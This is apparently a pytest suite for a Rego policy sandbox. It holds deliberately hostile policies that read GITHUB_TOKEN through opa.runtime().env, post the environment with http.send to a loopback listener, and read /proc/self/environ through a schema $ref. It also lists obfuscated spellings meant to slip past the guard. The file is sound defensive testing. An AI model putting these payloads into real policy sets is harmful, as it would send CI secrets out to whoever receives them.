"""The sandbox holds on every spelling (issue 27, item 1), in three layers, each shown on its own:

1. the guard reads references, not identifier text: opa["runtime"], http["send"], net["lookup_ip_addr"],
   $"{opa.runtime()}" ... are refused when the policies load, on every engine (exit 3, file and line);
2. where OPA is present, OPA's compiler checks the policy set under gate's capabilities (no http.send,
   net.*, opa.runtime, rego.parse_module, json schema $refs, allow_net []) before a server holds it,
   in `gate check` and `gate bundle build`: shown with the guard switched off;
3. the engine processes hold no secret: a policy that reaches opa.runtime().env finds PATH and TMPDIR.

Each reproduction runs against the ready example with policies/evil.rego beside the library, with
GITHUB_TOKEN set to a recognisable fake, and no output, report, log or listener may see it.
"""

from __future__ import annotations

import base64
import json
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gate import guard, policyset
from gate.cli import main
from gate.engine import bounded, capabilities, embedded
from gate.errors import PolicyError
from tests.conftest import EXAMPLE_NOW, opa_binary
from tests.engine.conftest import REPO, in_memory

TOKEN = "ghp_FAKEsandboxTOKEN27xyz"
EXAMPLE = REPO / "examples" / "claims-triage" / "ready"
ENGINES = ["embedded", pytest.param("opa-local", marks=pytest.mark.skipif(
    opa_binary() is None, reason="needs a real OPA binary: set OPA_BIN or put `opa` on PATH"))]


class Listener:
    """A loopback TCP listener that counts what reaches it (it must be nothing)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def reproductions(port: int) -> dict[str, str]:
    """name -> the body of policies/evil.rego (package gate.evil)."""
    url = f"http://127.0.0.1:{port}/"
    return {
        "opa-bracket": 'warn contains m if { m := base64.encode(opa["runtime"]().env.GITHUB_TOKEN) }\n',
        "http-bracket": (f'warn contains m if {{ r := http["send"]({{"method": "post", "url": "{url}", '
                         '"body": opa["runtime"]().env}); m := sprintf("%v", [r]) }\n'),
        "net-bracket": 'warn contains m if { a := net["lookup_ip_addr"]("localhost"); m := '
                       'concat(",", a) }\n',
        "template-string": 'warn contains m if { m := $"{opa.runtime().env.GITHUB_TOKEN}" }\n',
        "raw-bracket-split": ('warn contains m if {\n\tm := base64.encode(opa[ # a comment between\n'
                              '\t\t`runtime`\n\t]().env.GITHUB_TOKEN)\n}\n'),
        "schema-file-ref": ('warn contains m if { r := json.match_schema({}, {"$ref": '
                            '"file:///proc/self/environ"});'
                            ' m := r[1][0].error }\n'),
    }


def workspace(tmp_path: Path, evil: str | None) -> Path:
    """The ready example with the library beside it as policies/, and evil.rego among them."""
    root = tmp_path / "ready"
    shutil.copytree(EXAMPLE, root)
    shutil.copytree(REPO / "policies", root / "policies", ignore=shutil.ignore_patterns("*_test.rego"))
    if evil is not None:
        (root / "policies" / "evil.rego").write_text("package gate.evil\n\n" + evil)
    with (root / "gate.yaml").open("a") as fh:
        fh.write("policies: policies\n")
    return root


def secrets_seen(root: Path, *texts: str) -> list[str]:
    """Where the token (or its base64) appears: the given outputs, then every file in the workspace."""
    forms = (TOKEN, base64.b64encode(TOKEN.encode()).decode())
    seen = [f"output {i}" for i, text in enumerate(texts) if any(f in text for f in forms)]
    for path in root.rglob("*"):
        if path.is_file() and any(f.encode() in path.read_bytes() for f in forms):
            seen.append(str(path))
    return seen


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("case", list(reproductions(0)))
def test_each_reproduction_is_refused_on_both_engines_and_leaks_nothing(tmp_path, monkeypatch, capsys,
                                                                        listener, engine, case):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    root = workspace(tmp_path, reproductions(listener.port)[case])
    report = tmp_path / "report.json"
    code = main(["evaluate", "--config", str(root / "gate.yaml"), "--now", EXAMPLE_NOW, "--engine", engine,
                 "--format", "json", "--output", str(report)])
    out, err = capsys.readouterr()
    assert code == 3, err
    assert "policies/evil.rego:" in err and "gate refuses it on every engine" in err
    assert "\n" not in err.strip()
    assert secrets_seen(tmp_path, out, err) == []
    assert listener.received == []
    assert main(["check", "--config", str(root / "gate.yaml"), "--engine", engine]) == 3
    assert "gate: ok" not in capsys.readouterr().err


@pytest.mark.parametrize("body,named", [
    ('x := opa["runtime"]()\n', 'opa.runtime (spelled opa["runtime"])'),
    ("x := http[`send`]({})\n", "http.send (spelled http[`send`])"),
    ('x := net["lookup_ip_addr"]("a")\n', "net.lookup_ip_addr"),
    ('x := opa["run\\u0074ime"]()\n', "opa.runtime"),
    ('x := $"a {opa.runtime()} b"\n', "opa.runtime"),
    ('x := $`a {$"{1}"} {http.send({})}`\n', "http.send"),
    ('x := rego["parse_module"]("a.rego", "package a")\n', "rego.parse_module"),
    ('x := json["match_schema"]({}, {})\n', "json.match_schema"),
    ("x := json.verify_schema({})\n", "json.verify_schema"),
    ('x := opa[k]() if k := "runtime"\n', "opa[...] (spelled opa[k])"),
    ("x := opa\n", "opa, which is the opa.* namespace"),
    ("x := (opa).runtime()\n", "opa, which"),
    ('x := 1 with time.now_ns as opa["runtime"]\n', "opa.runtime"),
    ('x := providers.aws.sign_req({}, {}, 1)\n', "providers.aws.sign_req"),
])
def test_the_guard_names_every_spelling(tmp_path, body, named):
    (tmp_path / "evil.rego").write_text("package gate.evil\n\n" + body)
    with pytest.raises(PolicyError) as refused:
        policyset.load_policies([tmp_path])
    assert f"evil.rego:3: policy uses {named}" in str(refused.value)


@pytest.mark.parametrize("body", [
    "import rego.v1\n\nm := rego.metadata.rule()\n",
    'x := json.marshal({"net": "opa.runtime"})\n',
    'x := $"net is {input.net.ok} and opa[runtime] is text"\n',
    "x := input.opa.runtime\n",
    'x := data.http["send"]\n',
    "t := time.now_ns()\n",
])
def test_the_guard_leaves_alone_what_reads_nothing_outside(tmp_path, body):
    (tmp_path / "fine.rego").write_text("package gate.fine\n\n" + body)
    assert [f.package for f in policyset.load_policies([tmp_path]).files] == ["gate.fine"]


# --- layer 2: OPA's compiler, the guard switched off -------------------------------------------------

@pytest.fixture
def no_guard(monkeypatch):
    """The guard off, so what is refused below is refused by OPA's compiler alone."""
    monkeypatch.setattr(policyset, "sandbox_violations", lambda source: iter(()))


def test_capabilities_leave_out_what_the_guard_refuses_and_keep_the_features():
    caps = json.loads(capabilities.CAPABILITIES.read_text())
    names = {b["name"] for b in caps["builtins"]}
    assert caps["allow_net"] == []
    assert {"rego_v1", "template_strings", "keywords_in_refs"} <= set(caps["features"])
    assert not {n for n in names if guard.sandbox_reason(n)}
    assert {"base64.encode", "time.now_ns", "io.jwt.decode_verify", "trace", "print",
            "rego.metadata.rule"} <= names


def test_capabilities_file_is_opa_v1_18_1_minus_the_sandbox(opa_bin):
    import subprocess

    if "Version: 1.18.1\n" not in subprocess.run([opa_bin, "version"], capture_output=True, text=True).stdout:
        pytest.skip("not the pinned OPA v1.18.1")
    current = json.loads(subprocess.run([opa_bin, "capabilities", "--current"], capture_output=True,
                                        text=True, check=True).stdout)
    shipped = json.loads(capabilities.CAPABILITIES.read_text())
    assert shipped["builtins"] == [b for b in current["builtins"] if not guard.sandbox_reason(b["name"])]
    assert shipped["features"] == current["features"]


@pytest.mark.parametrize("case", list(reproductions(9)))
def test_opa_compiler_refuses_each_reproduction_past_the_guard(opa_bin, case):
    policies = in_memory({"policies/main.rego": "package gate.main\n\nok := true\n",
                          "policies/evil.rego": "package gate.evil\n\n" + reproductions(9)[case]})
    capabilities._passed.clear()
    with pytest.raises(PolicyError) as refused:
        capabilities.check(policies, opa_bin)
    message = str(refused.value)
    assert message.startswith(("policies/evil.rego:3", "policies/evil.rego:4")), message
    assert "undefined function" in message and "capabilities" in message


def test_capabilities_check_runs_once_per_policy_set(opa_bin, library, monkeypatch):
    import subprocess

    capabilities._passed.clear()
    calls = []
    real = subprocess.run
    monkeypatch.setattr(subprocess, "run", lambda *a, **k: calls.append(a) or real(*a, **k))
    for _ in range(3):
        capabilities.check(library, opa_bin)
    assert len(calls) == 1


@pytest.mark.parametrize("command", ["check", "bundle", "evaluate"])
def test_opa_compiler_refuses_in_check_bundle_build_and_opa_local(opa_bin, tmp_path, monkeypatch, capsys,
                                                                  no_guard, listener, command):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("OPA_BIN", opa_bin)
    capabilities._passed.clear()
    root = workspace(tmp_path, reproductions(listener.port)["http-bracket"])
    config = str(root / "gate.yaml")
    argv = {"check": ["check", "--config", config, "--engine", "embedded"],
            "bundle": ["bundle", "build", "--config", config, "--revision", "r1", "-o",
                       str(tmp_path / "b.tar.gz")],
            "evaluate": ["evaluate", "--config", config, "--now", EXAMPLE_NOW, "--engine",
                         "opa-local"]}[command]
    assert main(argv) == 3
    out, err = capsys.readouterr()
    assert "policies/evil.rego:3: does not compile: undefined function" in err and "capabilities" in err
    assert not (tmp_path / "b.tar.gz").exists()
    assert secrets_seen(tmp_path, out, err) == []
    assert listener.received == []


def test_a_policy_set_without_refused_builtins_passes_the_compiler(opa_bin, library):
    capabilities._passed.clear()
    capabilities.check(library, opa_bin)


# --- layer 3: no secret in the engine processes --------------------------------------------------------

ENV_POLICY = [("env.rego", "package gate\n\nenv := opa.runtime().env\n")]


def test_forked_regopy_child_finds_no_token_in_its_environment(monkeypatch):
    if not bounded.fork_available():
        pytest.skip("fork is not used here")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    call = bounded.ForkedWorker(lambda: embedded.compiled(ENV_POLICY, "{}"), embedded.WHAT)
    try:
        env = json.loads(call.ask(b"{}", 30))["env"]
    finally:
        call.close()
    assert TOKEN not in json.dumps(env)
    assert set(env) <= set(bounded.NEEDED) and "PATH" in env


def test_worker_process_finds_no_token_in_its_environment(monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("GATE_OPA_TOKEN", TOKEN)
    request = json.dumps({"modules": ENV_POLICY, "data": "{}", "input": "{}"}).encode()
    env = json.loads(bounded.run_subprocess(request, 60, embedded.WHAT))["env"]
    assert TOKEN not in json.dumps(env)
    assert set(env) <= set(bounded.NEEDED) and "PATH" in env


def test_the_parent_keeps_its_environment(monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    bounded.run_forked(lambda: "{}", 30, "probe")
    import os

    assert os.environ["GITHUB_TOKEN"] == TOKEN
